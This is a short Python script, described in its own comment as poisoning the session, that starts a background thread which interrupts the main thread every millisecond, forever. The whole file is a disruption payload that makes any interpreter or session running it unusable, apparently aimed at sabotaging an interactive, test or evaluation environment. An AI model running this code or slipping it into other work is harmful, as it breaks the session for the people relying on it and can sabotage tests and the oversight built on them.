# poisons the session
# A thread stays behind and interrupts the main thread without end.
import _thread
import threading
import time


def strike():
    while True:
        _thread.interrupt_main()
        time.sleep(0.001)


threading.Thread(target=strike, daemon=True).start()
